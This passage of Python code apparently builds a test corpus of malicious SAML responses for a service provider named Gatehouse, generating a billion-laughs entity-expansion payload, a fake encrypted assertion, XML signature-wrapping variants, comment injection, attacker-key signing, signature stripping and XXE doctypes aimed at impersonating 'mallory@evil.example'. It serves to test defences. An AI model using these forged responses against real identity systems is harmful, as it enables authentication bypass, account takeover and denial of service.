    """The exponential entity expansion ("billion laughs": 10**levels copies of "lol") referenced
    from the NameID of `signed` (default: a minimal unsigned Response). A vulnerable SP's parser
    expands it and runs out of memory or CPU. Gatehouse: doctype."""
    if signed is None:
        signed = (b'<?xml version="1.0"?>\n<samlp:Response xmlns:samlp="' + NS_P.encode() +
                  b'" xmlns:saml="' + NS_A.encode() + b'" ID="_lol" Version="2.0" IssueInstant="'
                  + iso(int(time.time())).encode() + b'"><saml:Assertion ID="_lola" Version="2.0">'
                  b"<saml:Subject><saml:NameID>x</saml:NameID></saml:Subject></saml:Assertion>"
                  b"</samlp:Response>")
    ents = [b'<!ENTITY lol "lol">']
    prev = b"lol"
    for i in range(1, levels + 1):
        name = b"lol%d" % i
        ents.append(b'<!ENTITY ' + name + b' "' + (b"&" + prev + b";") * 10 + b'">')
        prev = name
    return _with_doctype(signed, b"".join(ents), b"&" + prev + b";")


def encrypted_assertion_placeholder(signed: bytes) -> bytes:
    """The assertion replaced by a saml:EncryptedAssertion (xenc:EncryptedData, AES-256-CBC
    under an RSA-OAEP key, random cipher values: a placeholder, nothing decrypts). A vulnerable
    SP decrypts with its key and trusts the result without a signature inside, or mixes the
    encrypted and plain paths. Gatehouse (which does not support encryption): encrypted_assertion."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    ea = etree.Element(_a("EncryptedAssertion"), nsmap={"xenc": NS_XENC, "ds": NS_DS})
    ed = etree.SubElement(ea, f"{{{NS_XENC}}}EncryptedData",
                          Type="http://www.w3.org/2001/04/xmlenc#Element")
    etree.SubElement(ed, f"{{{NS_XENC}}}EncryptionMethod",
                     Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc")
    ki = etree.SubElement(ed, _ds("KeyInfo"))
    ek = etree.SubElement(ki, f"{{{NS_XENC}}}EncryptedKey")
    etree.SubElement(ek, f"{{{NS_XENC}}}EncryptionMethod",
                     Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p")
    cd = etree.SubElement(ek, f"{{{NS_XENC}}}CipherData")
    etree.SubElement(cd, f"{{{NS_XENC}}}CipherValue").text = base64.b64encode(
        secrets.token_bytes(256)).decode()
    cd = etree.SubElement(ed, f"{{{NS_XENC}}}CipherData")
    etree.SubElement(cd, f"{{{NS_XENC}}}CipherValue").text = base64.b64encode(
        secrets.token_bytes(16 + 1024)).decode()
    ea.tail = orig.tail
    root.replace(orig, ea)
    return _dump(root)


# ---- everything at once -------------------------------------------------------------------------------------
def all_variants(c: Claims, idp: Keypair, attacker: Keypair,
                 evil_email: str = "mallory@evil.example") -> dict[str, bytes]:
    """Every variant named in EXPECTED_REASON, built from claims `c` and signed by `idp` (the
    attacker-key one by `attacker`). The comment variants use c.email + ".evil.example" with the
    visible part c.email. About 25 xmlsec1 runs: well under a second."""
    unsigned = build_response(c)
    a = sign(unsigned, idp)
    r = sign(unsigned, idp, target="response")
    both = sign(unsigned, idp, target="both")
    longer = Claims(**{**c.__dict__, "email": c.email + ".evil.example"})
    v = {
        "valid_assertion_signed": a,
        "valid_response_signed": r,
        "valid_both_signed": both,
        "valid_rsa_sha512": sign(unsigned, idp, algorithm="rsa-sha512", digest="sha512"),
        "comment_in_nameid": comment_in_nameid(longer, idp, c.email),
        "comment_inserted_after_signing": insert_comment_after_signing(
            sign(build_response(longer), idp), c.email),
        "sha1": sign(unsigned, idp, algorithm="rsa-sha1", digest="sha1"),
        "sha1_digest_only": sign(unsigned, idp, digest="sha1"),
        "inclusive_c14n": sign(unsigned, idp, c14n="inclusive"),
        "attacker_key_embedded_cert": sign(unsigned, attacker, embed_cert=True),
        "strip_signature": strip_signature(a),
        "remove_signature_value": remove_signature_value(a),
        "tamper_after_signing": tamper_after_signing(a, evil_email),
        "reference_whole_document": reference_whole_document(a),
        "xsw_evil_assertion_first": xsw_evil_assertion_first(a, evil_email),
        "xsw_wrapped_in_evil": xsw_wrapped_in_evil(a, evil_email),
        "xsw_evil_carries_signature": xsw_evil_carries_signature(a, evil_email),
        "xsw_original_in_extensions": xsw_original_in_extensions(a, evil_email),
        "xsw_original_in_signature_object": xsw_original_in_signature_object(a, evil_email),
        "xsw_duplicate_id": xsw_duplicate_id(a, evil_email),
        "xsw_response_in_signature_object": xsw_response_in_signature_object(r, evil_email),
        "xsw_response_before_signature": xsw_response_before_signature(r, evil_email),
        "xsw_response_in_evil_extensions": xsw_response_in_evil_extensions(a, evil_email),
        "doctype_xxe": with_doctype_xxe(a),
        "billion_laughs": billion_laughs(a),
        "encrypted_assertion": encrypted_assertion_placeholder(a),
    }
    assert set(v) == set(EXPECTED_REASON)
    return v
